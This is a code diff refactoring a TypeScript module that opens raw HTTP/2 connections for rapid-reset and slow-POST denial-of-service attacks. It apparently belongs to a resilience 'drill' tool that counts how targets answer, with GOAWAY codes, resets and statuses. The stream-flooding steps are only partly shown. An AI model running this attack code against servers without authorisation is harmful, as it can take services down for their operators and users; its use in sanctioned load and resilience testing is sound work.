@@ -9,27 +9,45 @@ import {
   hpackGet, hpackRequest, responseStatus, wantsSettingsAck, type H2Frame,
 } from './h2-frames.js';
 
+/** What one HTTP/2 attack connection reports and does (openH2). */
+interface H2Connection {
+  /** The connection's one answer: `no-h2`, `goaway-<code>`, or `closed` by the target while held. */
+  answer(what: string): void;
+  /** Whether the attack still holds the socket (a close it made itself is no answer). */
+  held(socket: Socket): boolean;
+  /** h2 negotiated, preface and SETTINGS written. */
+  ready(socket: Socket): void;
+  /** Every other frame the target sends. */
+  frame?(socket: Socket, f: H2Frame): void;
+  /** SETTINGS the client announces. */
+  settings?: ReadonlyArray<readonly [number, number]>;
+}
+
 /**
  * HTTP/2 attacks on raw frames (drill/h2-frames.ts), over TLS with ALPN h2: the rapid reset and
  * the slow POST on streams. Each connection negotiates h2 (offering http/1.1 too, as clients do:
  * a target without h2 is answered `no-h2` and the connection dropped), sends its preface and
- * SETTINGS, acknowledges the target's, and ends on its GOAWAY (counted by error code).
+ * SETTINGS, acknowledges the target's, and ends on its GOAWAY (counted by error code) — or is
+ * counted `closed` when the target closes it without one.
  */
-function openH2(env: SlowEnv, address: string | undefined, answer: (socket: Socket, what: string) => void, onReady: (socket: Socket) => void, onFrame: (socket: Socket, f: H2Frame) => void, settings: ReadonlyArray<readonly [number, number]> = []): Socket {
+function openH2(env: SlowEnv, address: string | undefined, o: H2Connection): Socket {
   // http/1.1 offered too, as clients do: the handshake then tells a target without h2 apart.
   const { socket, ready } = openTargetSocket(env, address ? { localAddress: address, localPort: drillLocalPorts.next(address) } : {}, ['h2', 'http/1.1']);
   socket.setNoDelay(true);
+  let answered = false;
+  const answer = (what: string): void => { if (!answered) { answered = true; o.answer(what); } };
   socket.once(ready, () => {
-    if ((socket as Socket & { alpnProtocol?: string | false }).alpnProtocol !== 'h2') { answer(socket, 'no-h2'); socket.destroy(); return; }
-    socket.write(Buffer.concat([H2_PREFACE, h2Settings(false, settings)]));
-    onReady(socket);
+    if ((socket as Socket & { alpnProtocol?: string | false }).alpnProtocol !== 'h2') { answer('no-h2'); socket.destroy(); return; }
+    socket.write(Buffer.concat([H2_PREFACE, h2Settings(false, o.settings ?? [])]));
+    o.ready(socket);
   });
   const read = h2FrameReader((f) => {
     if (wantsSettingsAck(f)) socket.write(h2Settings(true));
-    else if (f.type === H2_FRAME.GOAWAY) { answer(socket, `goaway-${goawayCode(f)}`); socket.destroy(); }
-    else onFrame(socket, f);
+    else if (f.type === H2_FRAME.GOAWAY) { answer(`goaway-${goawayCode(f)}`); socket.destroy(); }
+    else o.frame?.(socket, f);
   });
   socket.on('data', (buf: Buffer) => { try { read(buf); } catch { socket.destroy(); } });
+  socket.once('close', () => { if (o.held(socket)) answer('closed'); });
   return socket;
 }
 
@@ -43,18 +61,12 @@ function openH2(env: SlowEnv, address: string | undefined, answer: (socket: Sock
 export function startRapidReset(spec: SlowSpec, env: SlowEnv): RunningSlow {
   const perInterval = Math.max(1, spec.streamsPerInterval ?? 10);
   const nextId = new WeakMap<Socket, number>();
-  const answered = new WeakSet<Socket>();
   let streamsSent = 0;
   const h = holdConnections(spec, env, {
-    open(_idx, address) {
-      const socket = openH2(env, address, (s, what) => {
-        if (answered.has(s)) return;
-        answered.add(s);
-        recordAnswer(h.counters, env.now(), what);
-      }, (s) => nextId.set(s, 1), () => undefined);
-      socket.once('close', () => { if (h.held.has(socket) && !answered.has(socket)) { answered.add(socket); recordAnswer(h.counters, env.now(), 'closed'); } });
-      return socket;
-    },
+    open: (_idx, address) => openH2(env, address, {
+      answer: (what) => recordAnswer(h.counters, env.now(), what), held: (s) => h.held.has(s),
+      ready: (s) => nextId.set(s, 1),
+    }),
     trickle(socket) {
       const first = nextId.get(socket);
       if (first === undefined) return;
@@ -86,7 +98,6 @@ export function startH2SlowPost(spec: SlowSpec, env: SlowEnv): RunningSlow {
   const chunk = Buffer.alloc(Math.max(1, spec.chunkBytes ?? 1), 0x61);
   interface Conn { nextId: number; open: Set<number>; identity: number }
   const conns = new WeakMap<Socket, Conn>();
-  const gone = new WeakSet<Socket>();
   let streamsSent = 0;
   const openStreams = (socket: Socket, c: Conn): void => {
     const frames: Buffer[] = [];
@@ -103,25 +114,22 @@ export function startH2SlowPost(spec: SlowSpec, env: SlowEnv): RunningSlow {
     if (frames.length > 0) socket.write(Buffer.concat(frames));
   };
   const h = holdConnections(spec, env, {
-    open(idx, address) {
-      const socket = openH2(env, address, (s, what) => {
-        if (gone.has(s)) return;
-        gone.add(s);
-        recordAnswer(h.counters, env.now(), what);
-      }, (s) => {
+    open: (idx, address) => openH2(env, address, {
+      answer: (what) => recordAnswer(h.counters, env.now(), what), held: (s) => h.held.has(s),
+      ready(s) {
         const c: Conn = { nextId: 1, open: new Set(), identity: idx };
         conns.set(s, c);
         openStreams(s, c);
-      }, (s, f) => {
+      },
+      frame(s, f) {
         const c = conns.get(s);
         if (c === undefined || !c.open.has(f.streamId)) return;
         if (f.type === H2_FRAME.HEADERS) { c.open.delete(f.streamId); recordAnswer(h.counters, env.now(), responseStatus(f.payload)); }
         else if (f.type === H2_FRAME.RST_STREAM) { c.open.delete(f.streamId); recordAnswer(h.counters, env.now(), 'reset'); }
+      },
       // No dynamic table on the answers: each one's :status can be read alone (h2-frames.ts responseStatus).
-      }, [[H2_SETTING.HEADER_TABLE_SIZE, 0]]);
-      socket.once('close', () => { if (h.held.has(socket) && !gone.has(socket)) { gone.add(socket); recordAnswer(h.counters, env.now(), 'closed'); } });
-      return socket;
-    },
+      settings: [[H2_SETTING.HEADER_TABLE_SIZE, 0]],
+    }),
     trickle(socket) {
       const c = conns.get(socket);
       if (c === undefined) return;
